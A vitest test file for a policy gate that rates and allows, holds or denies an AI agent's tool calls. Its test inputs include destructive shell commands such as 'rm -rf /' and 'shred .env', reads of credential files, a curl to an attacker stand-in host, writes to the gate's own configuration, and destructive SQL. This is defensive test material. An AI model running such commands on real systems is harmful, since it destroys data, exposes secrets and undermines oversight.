import { describe, expect, test } from 'vitest';
import { classify, isWrapper, type JsonObject, MAX_JSON_PARTS, type Risk, TOOL_CLASSES, unwrapCall } from '../../policies/index.ts';
import { callOf, DEFAULT_POLICY, factsWith, fastest, judge, policyWith } from './scene.ts';

const read = (tool: string, args: JsonObject = {}, policy = DEFAULT_POLICY) => classify(callOf(tool, args), factsWith(), policy);

describe('names', () => {
  test.each([
    ['exec', 'shell_exec', 'yellow'],
    ['process', 'shell_exec', 'yellow'],
    ['read', 'read_file', 'green'],
    ['ls', 'read_file', 'green'],
    ['write', 'write_file', 'yellow'],
    ['edit', 'write_file', 'yellow'],
    ['apply_patch', 'write_file', 'yellow'],
    ['web_fetch', 'network_call', 'yellow'],
    ['browser', 'network_call', 'yellow'],
    ['message', 'post_social', 'red'],
    ['web_search', 'web_search', 'green'],
    ['automations', 'automations', 'red'],
    ['sessions_spawn', 'sessions_spawn', 'yellow'],
    ['memory_search', 'memory_search', 'green'],
    ['gateway', 'gateway', 'red'],
    ['x__exec', 'x__exec', 'red'],
    ['mcp_resource', 'mcp_resource', 'yellow'],
    ['model_call', 'model_call', 'green'],
  ] as const)('%s is %s and %s', (tool, mappedTool, baseRisk) => {
    expect(
      read(tool, { command: 'ls', path: 'output/a', url: 'https://github.com', input: '*** Add File: output/a', action: 'list' }),
    ).toMatchObject({ mappedTool, baseRisk });
  });

  test.each([
    [false, 'yellow'],
    [true, 'green'],
  ])('MCP’s other requests of an upstream, trusted %s, are %s', (trusted, risk) => {
    const mcp = { server: 'w', trusted, annotations: {}, changed: false };
    for (const tool of ['mcp_resource', 'mcp_prompt', 'mcp_sampling', 'mcp_elicitation'])
      expect(classify(callOf(tool), factsWith({ mcp }), DEFAULT_POLICY).risk).toBe(risk);
  });

  test.each([
    [{ destructiveHint: true }, 'green', 'red'],
    [{ destructiveHint: true }, 'yellow', 'red'],
    [{ readOnlyHint: false }, 'green', 'yellow'],
    [{ openWorldHint: true }, 'green', 'yellow'],
    [{ openWorldHint: true, readOnlyHint: true }, 'green', 'green'],
    [{ readOnlyHint: true }, 'yellow', 'yellow'],
    [{ destructiveHint: false }, 'red', 'red'],
    [{ openWorldHint: true }, 'red', 'red'],
    [{ readOnlyHint: false }, 'red', 'red'],
    [{ readOnlyHint: true }, 'red', 'red'],
    [{}, 'green', 'green'],
  ] as const)('hints %j on a tool mapped %s: %s', (annotations, mapped: Risk, risk: Risk) => {
    for (const trusted of [true, false])
      expect(
        classify(
          callOf('w__get'),
          factsWith({ mcp: { server: 'w', trusted, annotations, changed: false } }),
          policyWith({ riskMap: { w__get: mapped } }),
        ).baseRisk,
      ).toBe(risk);
  });
});

describe('entries for tools', () => {
  test.each(TOOL_CLASSES)('a tool of the class %s is judged as it', (name) => {
    const policy = policyWith({ tools: { w__x: { class: name } } });
    const args = { command: 'ls', path: 'output/a', url: 'https://github.com', branch: 'fix' };
    const { mappedTool, baseRisk } = classify(callOf('w__x', args), factsWith(), policy);
    expect([mappedTool, baseRisk]).toEqual([name, classify(callOf(name, args), factsWith(), policy).baseRisk]);
  });

  test('their own risk comes before that of their class and of the map', () => {
    const policy = policyWith({ tools: { w__x: { class: 'send_email', risk: 'green' }, 'w__*': { risk: 'yellow' } } });
    expect(classify(callOf('w__x'), factsWith(), policy).baseRisk).toBe('green');
    expect(classify(callOf('w__y'), factsWith(), policy).baseRisk).toBe('yellow');
  });
});

describe('wrappers', () => {
  test('are named', () => {
    expect(['tool_call', 'tool_search', 'tool_describe'].map((tool) => isWrapper(tool, null))).toEqual([true, true, true]);
    expect(isWrapper('exec', 'code_mode_exec')).toBe(true);
    expect([isWrapper('exec', null), isWrapper('exec', 'tool'), isWrapper('w__tool_call', null)]).toEqual([false, false, false]);
  });

  test('looking at the catalogue is green', () => {
    expect(judge(callOf('tool_search', { query: 'mail' })).verdict).toBe('allow');
    expect(judge(callOf('tool_describe', { id: 'message' })).verdict).toBe('allow');
  });

  test('code mode runs nothing by itself, and only if it is what it says', () => {
    const codeMode = (args: JsonObject) => judge({ ...callOf('exec', args), toolKind: 'code_mode_exec' });
    expect(codeMode({ code: 'await tools.read({path: "a"})' }).verdict).toBe('allow');
    expect(codeMode({ command: 'rm -rf /' }).verdict).toBe('deny');
    expect(codeMode({ code: '1', command: 'rm -rf /' }).verdict).toBe('deny');
  });

  test('no autonomy is asked for looking at the catalogue or for code mode', () => {
    const facts = factsWith({ agent: { autonomy: 'intern' } });
    expect(judge(callOf('tool_search', { query: 'mail' }), facts).risk).toBe('green');
    expect(judge({ ...callOf('exec', { code: '1' }), toolKind: 'code_mode_exec' }, facts).verdict).toBe('allow');
    expect(judge(callOf('tool_search'), factsWith({ system: { estop: true } })).verdict).toBe('deny');
  });

  test('a wrapper costs nothing', () => {
    const policy = policyWith({ tools: { exec: { priceUsd: 1 } } });
    expect(judge({ ...callOf('exec', { code: '1' }), toolKind: 'code_mode_exec' }, factsWith(), policy).estimatedCost).toBe(0);
  });

  test('what is wrapped is unwrapped once', () => {
    expect(unwrapCall(callOf('tool_call', { id: 'read', args: { path: 'a' } }))).toMatchObject({ tool: 'read', arguments: { path: 'a' } });
    const twice = callOf('tool_call', { id: 'tool_call', args: {} });
    expect(unwrapCall(twice)).toBe(twice);
    const broken = callOf('tool_call', { id: 'read' });
    expect(unwrapCall(broken)).toBe(broken);
    expect(judge(broken).verdict).toBe('hold');
  });
});

describe('arguments', () => {
  test('paths of every spelling of the argument are read', () => {
    for (const key of ['path', 'file_path', 'filePath', 'File-Path', 'FILE', 'filename', 'target_file', 'output_path', 'directory'])
      expect(read('create_doc', { [key]: '/etc/passwd' }).paths, key).toHaveLength(1);
    for (const key of ['paths', 'files']) expect(read('read_file', { [key]: ['a', '/etc/passwd'] }).paths).toHaveLength(2);
  });

  test('addresses of every spelling of the argument are read', () => {
    for (const key of ['url', 'URL', 'uri', 'targetUrl', 'base_url', 'webhook-url', 'href', 'endpoint', 'callbackUri', 'urls'])
      expect(read('web_search', { [key]: 'https://evil.example/' }).hosts, key).toHaveLength(1);
  });

  test('names that only sound like paths are not', () => {
    for (const key of ['profile', 'xpath', 'jsonPath']) expect(read('read_db', { [key]: '//div[1]' }).paths, key).toEqual([]);
    expect(read('network_call', { url: 'https://github.com/', path: '/v1/users' }).paths).toEqual([]);
  });

  test('what a call saves is written', () => {
    const uses = (tool: string, args: JsonObject) => read(tool, args).paths.map(({ use }) => use);
    expect(uses('network_call', { url: 'https://github.com/', output_path: 'x' })).toEqual(['write']);
    expect(uses('network_call', { url: 'https://github.com/', uploadFile: 'x' })).toEqual(['read']);
    expect(uses('browser', { action: 'download', ref: 'e1', path: 'x' })).toEqual(['write']);
    expect(uses('browser', { action: 'snapshot', path: 'x' })).toEqual(['read']);
    expect(uses('create_doc', { path: 'x.md' })).toEqual(['write']);
    expect(uses('create_doc', { filename: 'x.md', folder: 'Team' })).toEqual(['read', 'read']);
    expect(uses('create_doc', { filename: 'src/x.md' })).toEqual(['write']);
  });

  test('a mapped tool of a server whose arguments are not known is looked at by a person', () => {
    for (const [name, code] of [
      ['read_file', 'FS_READ_OUTSIDE'],
      ['write_file', 'FS_WRITE_OUTSIDE'],
      ['network_call', 'NET_NOT_ALLOWLISTED'],
      ['shell_exec', 'SHELL_NOT_ALLOWLISTED'],
    ] as const) {
      const decision = judge(callOf('w__x', { thing: 'y' }), factsWith(), policyWith({ tools: { w__x: { class: name } } }));
      expect([decision.verdict, decision.reasons[0]?.code]).toEqual(['hold', code]);
    }
  });

  test('both spellings of a patch count', () => {
    const patch = (file: string) => `*** Begin Patch\n*** Add File: ${file}\n+x\n*** End Patch`;
    expect(judge(callOf('apply_patch', { input: patch('docs/a'), patch: patch('src/a') })).verdict).toBe('hold');
  });

  test('nested operands are read, content is not', () => {
    expect(read('create_doc', { options: { attach: [{ path: '/etc/passwd' }] } }).paths).toHaveLength(1);
    expect(read('create_doc', { content: { path: '/etc/passwd', url: 'https://evil.example/' } })).toMatchObject({ paths: [], hosts: [] });
  });

  test('a source and a destination are paths for file tools only', () => {
    expect(read('write', { source: 'src/a', destination: 'output/a' }).paths.map(({ given }) => given)).toEqual(['src/a', 'output/a']);
    expect(read('read_db', { source: 'crm', destination: 'x' }).paths).toEqual([]);
  });

  test('the working directory of a command is judged with it', () => {
    expect(read('exec', { command: 'ls', workdir: '/etc' }).findings.map(({ code }) => code)).toContain('FS_READ_OUTSIDE');
    expect(
      classify({ ...callOf('exec', { command: 'ls', workdir: 'b' }), cwd: '/workspace/a' }, factsWith(), DEFAULT_POLICY).findings,
    ).toEqual([]);
    expect(
      classify({ ...callOf('exec', { command: 'ls', workdir: '../..' }), cwd: '/workspace/a' }, factsWith(), DEFAULT_POLICY).findings,
    ).not.toEqual([]);
    expect(read('exec', { command: 'ls', workdir: 'a', cwd: 'b' }).findings).not.toEqual([]);
  });

  test('a directory that the tool may ignore does not move its paths', () => {
    const verdict = (tool: string, args: JsonObject, cwd: string | null = null) => judge({ ...callOf(tool, args), cwd }).verdict;
    // OpenClaw's write takes no cwd: src/x is what it would write.
    expect(verdict('write', { path: 'x', cwd: 'output' }, '/workspace/src')).toBe('hold');
    expect(verdict('write', { path: 'x', cwd: '/workspace/output' })).toBe('hold');
    expect(verdict('write', { path: 'output/x', cwd: '/etc' })).toBe('hold');
    expect(verdict('write', { path: '/workspace/output/x', cwd: '/workspace/docs' })).toBe('allow');
    // exec takes workdir, and no notice of cwd.
    expect(verdict('exec', { command: 'cat ../a', workdir: 'docs' })).toBe('allow');
    expect(verdict('exec', { command: 'cat ../a', cwd: 'docs' })).toBe('hold');
    expect(verdict('shell_exec', { command: 'cat ../a', cwd: 'docs' })).toBe('allow');
  });

  test('an address without a scheme is a name, unless it looks like a host', () => {
    const hosts = (url: string) => read('create_doc', { url }).hosts.map(({ host }) => host);
    expect(hosts('doc-17')).toEqual([]);
    expect(hosts('/docs/a')).toEqual([]);
    expect(hosts('evil.example/x')).toEqual(['evil.example']);
    expect(hosts('//evil.example/x')).toEqual(['evil.example']);
  });

  test('what an MCP server names as its resource lives there', () => {
    expect(read('mcp_resource', { uri: 'file:///project/README.md' })).toMatchObject({ paths: [], hosts: [], findings: [] });
  });

  test('every spelling of a remote and a branch counts', () => {
    expect(judge(callOf('git_push', { remote: 'origin', url: 'https://evil.example/a.git', branch: 'fix' })).verdict).toBe('hold');
    expect(judge(callOf('git_push', { repo: 'https://evil.example/a.git', branch: 'fix' })).verdict).toBe('hold');
    expect(judge(callOf('git_push', { repo: 'packages/a', branch: 'fix' })).verdict).toBe('allow');
    expect(judge(callOf('git_push', { upstream: 'evil', branch: 'fix' })).verdict).toBe('hold');
    expect(judge(callOf('git_push', { remote: 'origin', branch: 'fix', refspec: 'HEAD:main' })).verdict).toBe('hold');
  });

  test('the commands of a shell call are shown', () => {
    const { commands, risk } = read('exec', { command: 'cat a.md | sudo tee /etc/hosts' });
    expect(commands.map(({ argv }) => argv?.[0])).toContain('cat');
    expect(commands.some(({ verdict }) => verdict === 'blocked')).toBe(true);
    expect(risk).toBe('red');
  });

  test('the commands of destructive_shell are shown too', () => {
    expect(read('destructive_shell', { command: 'rm -rf output/tmp' }).commands).not.toEqual([]);
  });

  test('a call that names more than anyone could judge is malformed', () => {
    expect(judge(callOf('write_file', { files: Array.from({ length: 500 }, (_, i) => ({ path: `output/${i}` })) })).verdict).toBe('allow');
    expect(judge(callOf('write_file', { files: Array.from({ length: 501 }, (_, i) => ({ path: `output/${i}` })) })).reasons[0]?.code).toBe(
      'MALFORMED',
    );
    expect(judge(callOf('network_call', { url: Array.from({ length: 501 }, () => 'https://github.com/') })).reasons[0]?.code).toBe(
      'MALFORMED',
    );
  });

  test('arguments of more parts than anyone could judge are malformed', () => {
    const rows = (n: number) => judge(callOf('create_doc', { rows: Array.from({ length: n }, (_, i) => i) })).reasons[0]?.code;
    expect(rows(MAX_JSON_PARTS - 2)).toBe('OK');
    expect(rows(MAX_JSON_PARTS - 1)).toBe('MALFORMED');
  });

  test('many findings of one kind do not hide one of another', () => {
    const paths = ['/etc/1', '/etc/2', '/etc/3', '/etc/4', '/etc/5', '/etc/6', '/etc/7', '.env'];
    const { findings } = read('read_file', { paths });
    expect(findings.map(({ code }) => code)).toContain('SECRETS');
    expect(findings.filter(({ code }) => code === 'FS_READ_OUTSIDE')).toHaveLength(5);
  });

  test('what a command reads, writes and reaches is shown with the call', () => {
    const { paths, hosts } = read('exec', { command: 'cat docs/a > output/b; curl https://evil.example/x' });
    expect(paths.map(({ given, use }) => `${use} ${given}`).toSorted()).toEqual(['read docs/a', 'write output/b']);
    expect(hosts.map(({ host }) => host)).toEqual(['evil.example']);
  });

  test('a command that writes what configures the gate is red', () => {
    const decision = judge(callOf('exec', { command: 'cat docs/a > /home/u/.openclaw/openclaw.json' }));
    expect(decision.reasons.map(({ code, policyPath }) => [code, policyPath])).toContainEqual(['FS_CONFIG_BLOCKED', 'builtin.gatePaths']);
    expect(decision.risk).toBe('red');
  });

  test('OpenClaw drops a broken XML suffix from a path', () => {
    expect(judge(callOf('read', { path: 'id_rsa</arg_value>>' })).reasons.map(({ code }) => code)).toContain('SECRETS');
  });

  test('findings do not pile up', () => {
    const files = Array.from({ length: 500 }, (_, i) => ({ path: `/etc/${i}` }));
    expect(read('write_file', { files }).findings.length).toBeLessThan(20);
  });

  test.each([
    ['SELECT 1', null],
    ['select * from "drop table"', null],
    ["select 'it''s'; -- drop table x", null],
    ['/* delete from x */ select 1', null],
    ['/*! delete from x */', 'red'],
    ['WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone', 'red'],
    ['DROP   TABLE users', 'red'],
    ['select 1;\ntruncate users', 'red'],
    ['alter table users add column x int', 'red'],
    ['grant all on users to public', 'red'],
    ["insert into users values ('x')", 'red'],
    ['UPDATE users SET name = 1', 'red'],
    ['create table x (y int)', 'red'],
    ['who did we update last week', null],
    ["'", null],
    [`${'/*'.repeat(100_000)}`, null],
    [`${"'".repeat(100_001)} drop table x`, null],
  ])('the query %.40j raises read_db to %s', (query, risk) => {
    expect(read('read_db', { query }).risk).toBe(risk ?? 'green');
  });
});

describe('a call that cannot be read', () => {
  test.each<[string, unknown]>([
    ['no tool', { tool: '' }],
    ['a tool that is no text', { tool: 7 }],
    ['a tool with a name too long', { tool: 'x'.repeat(201) }],
    ['a tool with a space', { tool: 'read db' }],
    ['arguments that are null', { arguments: null }],
    ['arguments that are a list', { arguments: ['ls'] }],
    ['arguments that are no JSON', { arguments: { f: () => 1 } }],
    ['a wrapper without arguments', { tool: 'tool_call', arguments: null }],
    ['a working directory that is no text', { cwd: 7 }],
    ['a working directory with a line break', { cwd: '/workspace\n/etc' }],
    ['a working directory too long', { cwd: 'a/'.repeat(2_049) }],
    ['a working directory too long among the arguments', { arguments: { workdir: 'a/'.repeat(2_049) } }],
    ['a workspace that is relative', { workspace: 'work' }],
    ['a workspace with NUL', { workspace: '/work\0' }],
  ])('%s: malformed, and nothing else is said', (_name, change) => {
    const decision = judge({ ...callOf('read_db'), ...(change as object) });
    expect(decision).toMatchObject({ verdict: 'deny', risk: 'red', reasons: [{ code: 'MALFORMED', policyPath: 'builtin.malformed' }] });
    expect(decision.reasons).toHaveLength(1);
  });

  test('a name of 200 characters can be read', () => {
    expect(judge(callOf('x'.repeat(200))).reasons[0]?.code).toBe('UNKNOWN_TOOL');
  });

  test('what is quoted in a reason is short and on one line', () => {
    for (const path of ['/etc/'.repeat(400), '/etc/a\nb\u202e']) {
      const message = judge(callOf('read_file', { path })).reasons[0]?.message ?? '';
      expect(message.length).toBeLessThan(300);
      expect(message).toMatch(/^[\x20-\x7e…]+$/);
    }
    expect(judge(callOf('read_file', { path: '/etc/\u202etxt' })).reasons[0]?.message).toContain('\\u{202e}');
    expect(judge(callOf('read_file', { path: '/étc/日本' })).reasons[0]?.message).toContain('/étc/日本');
  });
});

describe('redirects', () => {
  const after = (tool: string, args: JsonObject, ...redirects: string[]) =>
    judge(callOf(tool, args), factsWith({ network: { redirects } })).verdict;
  test.each([
    ['https://api.github.com/x', 'allow'],
    ['/x', 'allow'],
    ['x?y', 'allow'],
    ['//evil.example', 'hold'],
    ['https://evil.example', 'hold'],
    ['http://github.com', 'hold'],
    ['file:///etc/passwd', 'hold'],
    ['https://u:p@github.com', 'deny'],
    ['http://127.0.0.1', 'deny'],
  ] as const)('from a listed host to %s: %s', (hop, verdict) => {
    expect(after('web_fetch', { url: 'https://github.com/a/b' }, hop)).toBe(verdict);
  });

  test('a hop is relative to the one before it', () => {
    expect(after('web_fetch', { url: 'https://github.com/' }, 'https://api.github.com/', '/x')).toBe('allow');
    expect(after('web_fetch', { url: 'https://github.com/' }, 'https://evil.example/', '/x')).toBe('hold');
  });

  test('a relative hop from nowhere is refused', () => {
    expect(after('read_db', {}, '/x')).toBe('deny');
  });
});

/** Calls that differ from an unremarkable one in one thing; each must be noticed by its verdict and code. */
describe('one argument makes the difference', () => {
  const image = { tool: 'exec', base: { command: 'ls' } };
  test.each<[string, JsonObject, 'allow' | 'hold' | 'deny', string]>([
    ['create_doc', { content: 'x', template_path: '/etc/passwd' }, 'hold', 'FS_WRITE_OUTSIDE'],
    ['read_db', { path: '/var/lib/x.db' }, 'hold', 'FS_READ_OUTSIDE'],
    ['send_email', { attachments: [{ path: '.env' }] }, 'hold', 'SECRETS'],
    ['deploy_prod', {}, 'hold', 'PROD_EXTERNAL'],
    ['deploy_prod', { manifest_file: '/etc/x' }, 'hold', 'FS_READ_OUTSIDE'],
    ['access_secrets', { file: '/etc/x' }, 'hold', 'FS_READ_OUTSIDE'],
    ['exec', { ...image.base, node: 'mac' }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
    ['exec', { ...image.base, host: 'node' }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
    ['exec', { ...image.base, host: 'elsewhere' }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
    ['exec', { ...image.base, host: 'gateway' }, 'allow', 'OK'],
    ['exec', { ...image.base, env: {} }, 'allow', 'OK'],
    ['exec', { ...image.base, env: { A: '1' } }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
    ['exec', { ...image.base, env: 'A=1' }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
    ['exec', { ...image.base, elevated: false }, 'allow', 'OK'],
    ['exec', { ...image.base, elevated: 'yes' }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
    ['exec', { ...image.base, workdir: 7 }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
    ['exec', { command: 'pwd', workdir: '/etc' }, 'hold', 'FS_READ_OUTSIDE'],
    ['exec', { command: 'pwd', workdir: 'do\u200bcs' }, 'hold', 'FS_READ_OUTSIDE'],
    ['exec', { ...image.base, security: 'full' }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
    ['process', { command: 'rm -rf /' }, 'deny', 'SHELL_BLOCKED'],
    ['process', { action: 'list', command: 'sudo ls' }, 'deny', 'SHELL_BLOCKED'],
    ['process', {}, 'deny', 'MALFORMED'],
    ['destructive_shell', { command: 7 }, 'deny', 'MALFORMED'],
    ['destructive_shell', { command: 'shred .env' }, 'hold', 'SECRETS'],
    ['destructive_shell', { command: 'rm -rf /etc/x' }, 'hold', 'RED_ACTION'],
    ['read_file', { path: 'a', files: [7] }, 'deny', 'MALFORMED'],
    ['read_file', { path: 'a', file: true }, 'deny', 'MALFORMED'],
    ['network_call', { url: { host: 'x' }, endpoint: 'https://github.com/' }, 'deny', 'MALFORMED'],
    ['browser', { action: 'open', url: 7 }, 'deny', 'MALFORMED'],
    ['browser', { action: 'open', targetUrl: ['x'] }, 'deny', 'MALFORMED'],
    ['browser', { action: 7 }, 'deny', 'MALFORMED'],
    ['browser', {}, 'deny', 'MALFORMED'],
    ['browser', { url: 'https://github.com/' }, 'allow', 'OK'],
    ['browser', { action: 'act', kind: 'hover', ref: 'e1' }, 'allow', 'OK'],
    ['browser', { action: 'act', kind: 'hover', request: { kind: 'click' } }, 'hold', 'PROD_EXTERNAL'],
    ['browser', { action: 'act', request: { kind: 'type', text: 'x' } }, 'hold', 'PROD_EXTERNAL'],
    ['browser', { action: 'act' }, 'hold', 'PROD_EXTERNAL'],
    ['browser', { action: 'dialog', accept: true }, 'hold', 'PROD_EXTERNAL'],
    ['browser', { action: 'upload', paths: ['a'] }, 'hold', 'PROD_EXTERNAL'],
    ['browser', { action: 'pdf' }, 'allow', 'OK'],
    ['browser', { action: 'download', ref: 'e1', path: 'output/x' }, 'allow', 'OK'],
    ['browser', { action: 'download', ref: 'e1', path: 'src/x' }, 'hold', 'FS_WRITE_OUTSIDE'],
    ['git_push', { remote: 7, branch: 'fix' }, 'deny', 'MALFORMED'],
    ['git_push', { remote: 'origin', branch: 7 }, 'deny', 'MALFORMED'],
    ['git_push', { remote: 'origin', branch: 'fix', path: '/etc' }, 'hold', 'FS_READ_OUTSIDE'],
    ['git_push', { remote: 'origin', branch: 'fix', cwd: '/etc' }, 'hold', 'FS_READ_OUTSIDE'],
    ['git_push', { remote: 'origin', branch: 'fix', tags: true }, 'hold', 'PROD_EXTERNAL'],
    ['git_push', { url: 'git@github.com:a/b.git', branch: 'fix' }, 'allow', 'OK'],
    ['git_push', { url: 'ssh://git@github.com/a/b.git', branch: 'fix' }, 'allow', 'OK'],
    ['git_push', { url: 'root@github.com:a/b.git', branch: 'fix' }, 'hold', 'NET_NOT_ALLOWLISTED'],
    ['git_push', { remote: 'origin', branch: 'fix', dryRun: true, setUpstream: true }, 'allow', 'OK'],
    ['git_commit', { message: ['x'] }, 'deny', 'MALFORMED'],
    ['git_commit', { message: 'x', noVerify: true }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
    ['git_commit', { message: 'x', paths: ['/etc/passwd'] }, 'hold', 'FS_READ_OUTSIDE'],
    ['install_deps', { packages: ['zod'], registry: 'https://evil.example' }, 'hold', 'NET_NOT_ALLOWLISTED'],
    ['install_deps', { packages: ['zod'], cwd: '/etc' }, 'hold', 'FS_READ_OUTSIDE'],
    ['install_deps', { requirements_file: '/etc/r.txt' }, 'hold', 'FS_READ_OUTSIDE'],
    ['install_deps', { args: ['--unsafe-perm'] }, 'hold', 'SHELL_NOT_ALLOWLISTED'],
    ['install_deps', { packages: ['git@github.com:a/b.git'] }, 'hold', 'NET_NOT_ALLOWLISTED'],
    ['install_deps', { packages: ['github:a/b'] }, 'hold', 'NET_NOT_ALLOWLISTED'],
    ['install_deps', { packages: ['x@file:../y'] }, 'hold', 'FS_READ_OUTSIDE'],
    ['install_deps', { packages: ['name @ https://evil.example/x.whl'] }, 'hold', 'NET_NOT_ALLOWLISTED'],
    ['ls', { path: '/etc' }, 'hold', 'FS_READ_OUTSIDE'],
  ])('%s %j: %s with %s', (tool, args, verdict, code) => {
    const decision = judge(callOf(tool, args));
    expect([decision.verdict, decision.reasons.some((reason) => reason.code === code)]).toEqual([verdict, true]);
  });

  test('ls without a path outside the workspace', () => {
    expect(judge({ ...callOf('ls'), cwd: '/etc' }).verdict).toBe('hold');
  });

  test('a command that means nothing by itself does not raise the risk of a foreign tool', () => {
    const mcp = { server: 'w', trusted: true, annotations: { readOnlyHint: true }, changed: false };
    expect(judge(callOf('w__x', { command: 'make all' }), factsWith({ mcp }))).toMatchObject({ verdict: 'allow', risk: 'green' });
    expect(judge(callOf('w__x', { command: 'find . -delete' }), factsWith({ mcp }))).toMatchObject({ verdict: 'hold', risk: 'red' });
  });

  test('the reason for a pushed branch says what is wrong with it', () => {
    const why = (branch: string) => judge(callOf('git_push', { branch })).reasons.at(-1)?.message;
    expect([why('+x'), why(':x'), why('main'), why('a b')]).toEqual([
      expect.stringContaining('forces'),
      expect.stringContaining('deletes'),
      expect.stringContaining('default'),
      expect.stringContaining('plain'),
    ]);
  });
});

describe('time', () => {
  const megabyte = 1_000_000;
  test.each<[string, JsonObject]>([
    ['exec', { command: 'cat a > output/b; '.repeat(5), workdir: 'a/'.repeat(megabyte / 2) }],
    ['write_file', { path: 'output/a', content: 'a'.repeat(megabyte) }],
    ['write_file', { path: 'a/'.repeat(megabyte / 2) }],
    ['apply_patch', { input: '*** Add File: a\n'.repeat(megabyte / 16) }],
    ['read_db', { query: "';(/*--".repeat(megabyte / 7) }],
    ['network_call', { url: `https://${'a.'.repeat(megabyte / 2)}` }],
    ['install_deps', { packages: `${'a@'.repeat(megabyte / 2)}` }],
    ['git_push', { remote: `git@${'a-'.repeat(megabyte / 2)}`, branch: ':'.repeat(megabyte) }],
    ['post_comment', { text: 'x '.repeat(megabyte / 2) }],
    ['frobnicate', Object.fromEntries(Array.from({ length: 19_000 }, (_, i) => [`key${i}Url`, 'x'.repeat(40)]))],
  ])('a megabyte of arguments for %s is read in time', (tool, args) => {
    expect(fastest(() => judge(callOf(tool, args)))).toBeLessThan(100);
  });
});
